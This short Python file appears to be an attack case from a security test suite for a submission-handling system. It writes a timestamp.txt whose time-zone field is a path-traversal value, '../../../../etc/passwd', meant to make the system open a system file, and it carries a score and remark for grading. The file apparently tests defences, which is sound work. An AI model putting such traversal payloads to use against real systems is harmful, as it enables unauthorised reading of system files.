"""Submits a timestamp.txt that names a file as its time zone."""


def attack(submission):
    """Write it."""
    submission.write("2020-01-01 00:00:00 ../../../../etc/passwd", "timestamp.txt")


SCORE = 9
REMARK = "timestamp"
